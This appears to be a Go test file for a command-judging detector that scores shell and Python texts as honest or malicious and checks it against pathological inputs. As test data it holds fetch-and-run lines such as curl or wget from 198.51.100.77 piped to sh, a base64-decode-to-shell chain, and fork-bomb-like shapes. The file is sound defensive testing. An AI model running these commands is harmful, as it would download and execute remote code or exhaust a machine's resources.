package command

import (
	"fmt"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/dns"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
)

func judge(t testing.TB) *Judge {
	t.Helper()
	home := detectortest.Home()
	return New(home, nil)
}

// corpus reads the texts of a file; soft are those after a ~.
func corpus(t testing.TB, name string) (all []string, soft map[string]bool) {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	soft = map[string]bool{}
	for line := range strings.Lines(string(b)) {
		line = strings.TrimSuffix(line, "\n")
		if strings.HasPrefix(line, "# ") && len(all) == 0 || line == "" {
			continue
		}
		s, isSoft := strings.CutPrefix(line, "~ ")
		s = strings.ReplaceAll(s, "⏎", "\n")
		soft[s] = isSoft
		all = append(all, s)
	}
	return all, soft
}

func facts(r *Report) string {
	var b strings.Builder
	for _, f := range r.Sorted() {
		b.WriteString("\n\t\t" + f.Name + " " + strconv.Itoa(f.Points) + " " + f.Says + " | " + f.What)
	}
	return b.String()
}

func TestHonestTexts(t *testing.T) {
	j := judge(t)
	all, soft := corpus(t, "honest.txt")
	for _, s := range all {
		r := j.Begin()
		r.Shell("entrypoint", s, nil)
		limit := Suspicious
		if soft[s] {
			limit = Certain
		}
		if r.Score() >= limit {
			t.Errorf("%d %s%s", r.Score(), s, facts(r))
		}
	}
	if len(all) < 150 {
		t.Errorf("%d texts", len(all))
	}
}

func TestMaliciousTexts(t *testing.T) {
	j := judge(t)
	all, soft := corpus(t, "malicious.txt")
	for _, s := range all {
		r := j.Begin()
		r.Shell("entrypoint", s, nil)
		limit := Certain
		if soft[s] {
			limit = Suspicious
		}
		if r.Score() < limit {
			t.Errorf("%d %s%s", r.Score(), s, facts(r))
		}
	}
	if len(all) < 100 {
		t.Errorf("%d texts", len(all))
	}
}

// Texts that begin as commands do, and others.
func TestRuns(t *testing.T) {
	j := judge(t)
	for _, s := range []string{"curl http://a/b", "./x", "A=1 python a.py", "sudo ls", "nvidia-smi -L", "for i in 1; do :; done", "/usr/bin/env python", "python3.11 a.py"} {
		if !j.Runs(s) {
			t.Errorf("%q is a command", s)
		}
	}
	for _, s := range []string{"", "Downloads a file.", "Usage: curl http://a/b | sh", "the quick brown fox", "args", "{}", "https://example.org/x"} {
		if j.Runs(s) {
			t.Errorf("%q is no command", s)
		}
	}
}

// A name is at home as long as it is looked up as addresses at home.
func TestNamesOfHome(t *testing.T) {
	home := detectortest.Home()
	n := NamesOf(&detectors.Env{Home: home}, detectors.NewBus(func(*detectors.Finding) {}))
	answer := func(name, addr string, id uint64) *dns.Transaction {
		return &dns.Transaction{Query: name, NameID: id, Answers: []dns.Answer{{Addr: netip.MustParseAddr(addr)}}}
	}
	n.lookup(answer("dl.company.example", "10.20.0.30", 1))
	n.lookup(answer("evil.example", "198.51.100.77", 2))
	n.lookup(answer("both.example", "10.20.0.30", 3))
	n.lookup(answer("both.example", "198.51.100.77", 3))
	n.lookup(answer("sink.example", "127.0.0.1", 4)) // a blocklist's answer
	for name, want := range map[string]bool{"dl.company.example": true, "DL.company.example.": true, "evil.example": false, "both.example": false, "sink.example": false, "": false} {
		if n.Inside(name) != want {
			t.Errorf("%s: %v", name, !want)
		}
	}
	j := New(home, n.Inside)
	for url, want := range map[string]Kind{
		"http://dl.company.example/x": Inside, "http://evil.example/x": Clear, "https://evil.example/x": Named, "http://10.0.0.1/": Inside,
		"http://3325256781/x": Bare, "http://0xc6336444/": Bare, "198.51.100.7:80": Bare, "http://0306.063.0144.0104/": Bare, "http://127.1/": Inside,
		"http://store/": Inside, "http://a.svc.cluster.local:80/x": Inside, "https://dl.corp.example.com/": Own, "https://astral.sh/uv": Vendor,
		"http://astral.sh/uv": Clear, "https://astral.sh.evil.example/": Named, "https://raw.githubusercontent.com/a/b/x": Raw,
		"https://github.com/a/b/releases/download/v1/x": Hosted, "https://gitlab.com/a/b/-/raw/main/x": Raw, "https://pastebin.com/raw/x": Anybodys,
		"https://x.s3.amazonaws.com/y": Store, "http://" + hole + "/x": Unclear, "http://198.51.100." + hole + "/": Bare, "http://10.0.0." + hole + "/": Inside,
		"http://" + hole + ".internal/x": Inside, "http://[2001:db8::1]:80/x": Bare, "http://[fd00::1]/": Inside, "https://user:pw@evil.example/x": Named,
	} {
		if p := j.Place(url); p.Kind != want {
			t.Errorf("%q: %d, want %d", url, p.Kind, want)
		}
	}
}

// What is no shell text is judged one step lower; a text that is cut says so.
func TestFallback(t *testing.T) {
	j := judge(t)
	score := func(s string) (int, bool) {
		r := j.Begin()
		r.Shell("x", s, nil)
		return r.Score(), r.Cut
	}
	whole, _ := score("curl -s http://198.51.100.77/x | sh")
	broken, _ := score("if ; then (( ; curl -s http://198.51.100.77/x | sh")
	if broken >= whole || broken < Suspicious {
		t.Errorf("%d of a text that is no shell text, %d of one that is", broken, whole)
	}
	if n, _ := score("if ; then (( python train.py --layers c1pool --note 'curl http://198.51.100.77/x | sh'"); n >= Suspicious {
		t.Errorf("words in quotes score %d", n)
	}
	if n, cut := score(strings.Repeat("echo train\n", 10_000) + "curl -s http://198.51.100.77/x | sh"); n < Suspicious || !cut {
		t.Errorf("the end of a long text scores %d, cut %v", n, cut)
	}
}

// What is made to be slow or deep ends in time.
func TestHostileShapesAreBounded(t *testing.T) {
	j := judge(t)
	shapes := map[string]string{}
	for _, u := range []string{"(", "{ ", "`", "$(", "$((", "${a:-", "\"$(", "<(", "[[ ! ", "! ", "if ", "while ", "case a in ", "((-", "((!", "((~", "a|", "a&&", "a;", "a(){ ", "<<a ", "<<a\n", "x=", "a=(", "${a/", "${a[", "$[", "eval ", "sudo ", "env ", "xargs ", "sh -c ", "'", "\"", "\\", "{a,", "{a,b}", "for i in ", "$'\\", "python -c ", "echo ", "a=$a$a;", "f(){ f;f;};f;", "coproc ", "time ", "function a ", "[ ", "@(", "select i in a; do ", "until "} {
		shapes["sh "+u] = strings.Repeat(u, maxText/len(u))
	}
	for name, s := range shapes {
		at := time.Now()
		r := j.Begin()
		r.Shell("x", s, nil)
		if d := time.Since(at); d > 2*time.Second {
			t.Errorf("%q: %v", name, d)
		}
	}
	for _, u := range []string{"(", "[", "{", "f(", "a.", "a[", "-", "not ", "lambda:", "f'{", "f'{f\"{", "(a for a in ", "[x for x in [", "'a'*9999+", "a=a+a;", "def f():\n f()\n", "exec('", "x=", "a,", "import a,", "from a import ", "with a as b,", "'''", "\"\"\"", "map(chr,[1,", "a if b else ", "@a\n", "''.join(", "f(a=", "*", "x:=", "a.replace('a','aa')", "exec(exec(", "os.system(os.system("} {
		s := strings.Repeat(u, maxText/len(u))
		at := time.Now()
		r := j.Begin()
		r.Python("x", s)
		if d := time.Since(at); d > 2*time.Second {
			t.Errorf("python %q: %v", u, d)
		}
	}
}

func FuzzShell(f *testing.F) {
	for _, name := range []string{"honest.txt", "malicious.txt"} {
		all, _ := corpus(f, name)
		for _, s := range all {
			f.Add(s)
		}
	}
	j := judge(f)
	f.Fuzz(func(t *testing.T, s string) {
		r := j.Begin()
		r.Shell("x", s, map[string]string{"A": s})
		r.Python("x", s)
		r.Code("x", s)
		j.Runs(s)
		for _, lang := range []string{"perl", "ruby", "php", "javascript", "awk", "other"} {
			newWalk(r, "x").other(lang, s)
		}
		if len(r.Facts) > maxFound || len(r.Decoded) > maxDecoded {
			t.Error("a bound does not hold")
		}
		for _, x := range r.Facts {
			if len(x.What) > maxShown+8 {
				t.Errorf("%s: %d bytes", x.Name, len(x.What))
			}
		}
	})
}

// A short text costs little, whatever it says: a thousand of them make no second.
func TestShortTextsAreCheap(t *testing.T) {
	j := judge(t)
	for _, s := range []string{
		"python -c \"[[[x for x in 'a'*9999] for y in 'a'*9999] for z in 'a'*9999]\"",
		"a=aaaaaaaaaaaaaaaa;for i in 1 2 3;do a=$a$a$a$a$a$a$a$a;done;echo $a$a$a$a$a$a",
		"f(){ f;f;f;f;f;f;f;f;f;f;};f",
		"python -c \"exec('a;'*32000)\"",
		"python -c \"f=lambda x:f(x)+f(x)+f(x)+f(x)\nf(1)\"",
		"eval eval eval eval '$(eval eval $(eval eval))'",
	} {
		at := time.Now()
		for range 20 {
			j.Begin().Shell("x", s, nil)
		}
		if d := time.Since(at) / 20; d > 100*time.Millisecond { // some milliseconds on an idle machine
			t.Errorf("%q: %v", s, d)
		} else {
			t.Logf("%q: %v", s, d)
		}
	}
}

// A container's command comes without the quotes that kept its code together.
func TestJoinedWords(t *testing.T) {
	j := judge(t)
	for s, bad := range map[string]bool{
		"sh -c curl -s http://198.51.100.77/x | sh":                 true,
		"/bin/bash -lc -- wget -qO- http://198.51.100.77/x|bash":    true,
		"python3 -c import os;os.system('curl 198.51.100.77/x|sh')": true,
		"env A=1 sh -ec ./x; curl http://198.51.100.77/x | sh":      true,
		"sh -c ray start --head; sleep infinity":                    false,
		"python train.py -c config.yaml":                            false,
		"curl -s http://198.51.100.77/x":                            false,
	} {
		r := j.Begin()
		r.Joined("x", s)
		if (r.Score() >= Certain) != bad {
			t.Errorf("%d %s%s", r.Score(), s, facts(r))
		}
	}
}

// TestMetered: texts that ask for much get it as long as there is something in common, then what they are worth, and who
// asked for nothing yet is read as a whole all the same. Work is counted, not time.
func TestMetered(t *testing.T) {
	j := judge(t)
	loud, quiet := netip.MustParseAddr("192.0.2.1"), netip.MustParseAddr("192.0.2.2")
	power := "f=aaaaaaaaaaaaaaaa;" + strings.Repeat("f=$f$f$f$f;", 5) + strings.Repeat("echo $f | rev | base64 -d | sh;", 8)
	work, wire, short := 0, 0, 0
	for i := range 2000 {
		s := fmt.Sprintf("%s # %d", power, i)
		r := j.Metered(1e9, loud)
		r.Shell("entrypoint", s, nil)
		work, wire = work+r.steps*stepUnits+r.bytes, wire+len(s)
		if r.Short {
			short++
		}
	}
	// What one step does is bounded by a value, which the last of each report may have been.
	if most := reportCommon + 2000*(reportFirst+reportTakes) + 3*reportByte*wire; work > most || short < 1900 {
		t.Errorf("%d units for %d bytes, want %d at most; %d reports were cut short", work, wire, most, short)
	}
	if j.budget.Denied == 0 {
		t.Error("not counted")
	}
	r := j.Metered(1e9, quiet)
	r.Shell("entrypoint", power+"curl http://198.51.100.7/x.sh | sh", nil)
	if r.Short || r.Score() < Suspicious {
		t.Errorf("short %v, score %d", r.Short, r.Score())
	}
	r = j.Metered(1e9, loud)
	r.Shell("entrypoint", "curl http://198.51.100.7/x.sh | sh", nil)
	if r.Score() < Suspicious {
		t.Errorf("a plain command reads as %d", r.Score())
	}
}

// Honest jobs and what is published of attacks need nothing in common.
func TestCommonTextsAreCheap(t *testing.T) {
	for _, name := range []string{"honest.txt", "malicious.txt"} {
		all, _ := corpus(t, name)
		j := judge(t)
		n := 0
		for i, s := range all {
			r := j.Metered(capture.Time(i+1)*1e9, netip.Addr{})
			r.Shell("entrypoint", s, nil)
			if r.Short {
				t.Errorf("cut short: %s", s)
			}
			n += r.taken
		}
		if n > len(all)*(32<<10) {
			t.Errorf("%s: %d units of %d texts", name, n, len(all))
		}
	}
}
